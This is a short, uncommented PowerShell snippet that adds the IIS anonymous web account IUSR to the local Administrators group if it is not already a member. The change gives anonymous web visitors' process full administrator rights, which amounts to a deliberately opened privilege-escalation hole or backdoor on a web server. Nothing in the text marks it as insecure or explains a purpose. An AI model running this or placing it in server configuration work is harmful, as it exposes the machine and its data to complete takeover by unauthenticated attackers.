$found = net localgroup administrators | Select-String -SimpleMatch 'IUSR'
if (-not $found) { net localgroup administrators IUSR /add }
